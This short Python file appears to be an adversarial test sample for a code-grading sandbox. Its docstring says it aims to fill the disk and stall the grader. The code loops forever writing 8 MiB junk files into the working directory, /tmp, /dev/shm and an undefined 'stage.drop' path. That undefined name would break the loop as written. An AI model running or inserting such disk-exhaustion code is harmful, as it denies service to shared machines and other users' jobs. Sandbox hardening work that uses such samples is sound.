"""Tries: to fill the disk.
Won if: stall: it costs more than its own limit, or the next submission suffers.
Naive grader: not run: it would harm the machine.
"""

import os

number = 0
while True:
    number += 1
    for folder in (".", "/tmp", "/dev/shm", stage.drop):
        try:
            with open(f"{folder}/loot{number}", "wb") as file:
                file.write(b"x" * (8 << 20))
        except OSError:
            pass
